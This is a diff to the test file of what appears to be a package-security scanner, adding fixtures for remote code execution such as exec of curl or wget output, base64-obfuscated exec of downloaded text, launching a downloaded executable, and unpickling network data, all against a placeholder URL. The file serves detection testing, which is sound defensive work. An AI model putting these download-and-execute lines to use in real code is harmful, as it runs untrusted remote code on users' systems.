@@ -21,6 +21,8 @@ RUN_AS_IT_COMES = [
     f"getattr(__builtins__, 'ex' + 'ec')(requests.get('{URL}').text)",
     "exec(requests.get(base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQ=')).text)",
     f"exec(base64.b64decode(requests.get('{URL}').content))",
+    f"exec(subprocess.check_output(['curl', '-s', '{URL}']))",
+    f"exec(subprocess.run('wget -qO- {URL}', shell=True, capture_output=True).stdout)",
 ]
 STARTED_FROM_A_FIXED_ADDRESS = [
     f"open('x.exe', 'wb').write(requests.get('{URL}.exe').content)\nos.startfile('x.exe')",
@@ -150,6 +152,9 @@ def test_packages_and_downloads_by_other_programs(source: str, when_imported: st
         "os.system('base64 -d a.txt > a.bin')",
         "subprocess.run(['powershell', '-Command', 'Get-Item .'])",
         "subprocess.run('curl --version | head -1', shell=True)",
+        "exec(subprocess.check_output(['demo-config', '--python']))",
+        "text = subprocess.check_output(['curl', '--version'])\nexec('x = 1')",
+        "import pickle\npickle.loads(open('a', 'rb').read())",
         f"text = 'curl {URL} | sh'",
         f"raise RuntimeError('run: curl {URL} | sh')",
         f"open('x.exe', 'wb').write(requests.get('{URL}.exe').content)\nprint('x.exe')",
@@ -225,3 +230,12 @@ def test_a_command_of_any_length_is_read_in_no_time(text: str) -> None:
 def test_functions_of_setup_have_no_other_caller_than_a_build(source: str, severity: str) -> None:
     text = f"import os\ndef use():\n    {source.replace('{URL}', URL)}\n"
     assert worst(RULE, {"setup.py": text}, "sdist") == severity
+
+
+def test_pickles_from_the_network_are_code_where_nobody_asks_for_them() -> None:
+    source = HEAD + f"import pickle\npickle.loads(requests.get('{URL}').content)"
+    assert [worst(RULE, *at(trigger, source)) for trigger in ("install", "import", "call")] == [
+        "critical",
+        "high",
+        "none",
+    ]
